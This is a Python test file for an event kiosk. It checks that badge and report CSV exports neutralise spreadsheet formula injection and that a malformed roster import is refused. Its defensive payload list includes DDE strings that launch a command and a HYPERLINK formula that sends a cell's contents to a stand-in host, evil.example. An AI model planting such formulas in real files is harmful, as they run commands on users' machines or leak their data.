"""Files that leave the kiosk or come into it: CSVs safe to open in a spreadsheet (OWASP's rule
against CSV injection) and rosters whose unclosed quote would swallow rows."""

from __future__ import annotations

import csv

import pytest

from kiosk.core.csvsafe import safe_cell
from kiosk.core.errors import KioskError
from kiosk.organiser.badges import write_badges
from kiosk.organiser.roster_import import import_roster
from tests.helpers.factories import ROSTER, make_event

# Payloads from OWASP's CSV injection page and the usual DDE examples.
PAYLOADS = ["=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "+HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "-2+3+cmd|' /C calc'!A0",
            "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_formula_start_is_neutralised(payload):
    assert safe_cell(payload) == "'" + payload
    assert safe_cell("Ahmed Khan") == "Ahmed Khan" and safe_cell(42) == 42


def hostile_roster(tmp_path):
    rows = list(ROSTER) + [
        ("X-001", PAYLOADS[0], "visitor", PAYLOADS[2], "", "", "", ""),
        ("X-002", PAYLOADS[1], "visitor", PAYLOADS[3], "", "", "", ""),
    ]
    return make_event(tmp_path, roster=rows)


def test_badges_csv_is_safe_in_a_spreadsheet(tmp_path):
    event = hostile_roster(tmp_path)
    write_badges(event, tmp_path / "badges")
    with (tmp_path / "badges" / "badges.csv").open(encoding="utf-8") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert "'" + PAYLOADS[0] in cells and "'" + PAYLOADS[1] in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_report_csvs_are_safe_in_a_spreadsheet(tmp_path, capsys):
    from kiosk.cli import main
    from tests.helpers.factories import DAYS, local, make_kiosk, open_desk

    event = hostile_roster(tmp_path)
    kiosk = make_kiosk(tmp_path, event)
    desk, store = open_desk(kiosk)
    desk.check_in("X-001", at=local(DAYS[0], 11))
    store.close()
    assert main(["export", "--kiosk", str(kiosk.path), "--out", str(tmp_path / "k.bundle")]) == 0
    assert main(["merge", str(tmp_path / "k.bundle"), "--into", str(tmp_path / "m.db"),
                 "--event", str(event.path)]) == 0
    assert main(["report", "--db", str(tmp_path / "m.db"), "--out", str(tmp_path / "r")]) == 0
    seen = []
    for path in (tmp_path / "r").glob("*.csv"):
        with path.open(encoding="utf-8") as fh:
            seen += [c for row in csv.reader(fh) for c in row]
    assert "'" + PAYLOADS[0] in seen and "'" + PAYLOADS[3] in seen  # first check-ins, no-shows
    assert not [c for c in seen if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_import_keeps_a_protective_tab_or_apostrophe(tmp_path):
    event = make_event(tmp_path, roster=list(ROSTER) + [
        ("X-003", "'=1+1", "visitor", "\t=2+2", "", "", "", "")])
    with event.store() as store:
        held = store.find_attendee("X-003")
    assert held.name == "'=1+1" and held.company == "\t=2+2"


def test_a_roster_with_an_unclosed_quote_is_refused_naming_its_line(tmp_path):
    event = make_event(tmp_path)
    before = sorted(a.id for a in event.store().attendees())
    bad = tmp_path / "bad.csv"
    bad.write_text('id,name,category,company\nN-1,New One,visitor,Acme\n'
                   'N-2,"Broken Quote,visitor,Acme\nN-3,New Three,visitor,Acme\n'
                   'N-4,New Four,visitor,Acme\n', encoding="utf-8")
    with event.store() as store:
        with pytest.raises(KioskError, match=r"line 3: a quote opened here"):
            import_roster(bad, store, event.rules)
        assert sorted(a.id for a in store.attendees()) == before  # nothing changed


def test_a_quoted_address_over_two_lines_still_imports(tmp_path):
    event = make_event(tmp_path)
    good = tmp_path / "good.csv"
    good.write_text('id,name,category,company\nN-1,"Ahmed\nKhan",visitor,Acme\n'
                    'N-2,Two,visitor,"Acme, Lahore"\n', encoding="utf-8")
    with event.store() as store:
        report = import_roster(good, store, event.rules)
    assert report.imported == 2 and not report.rejected
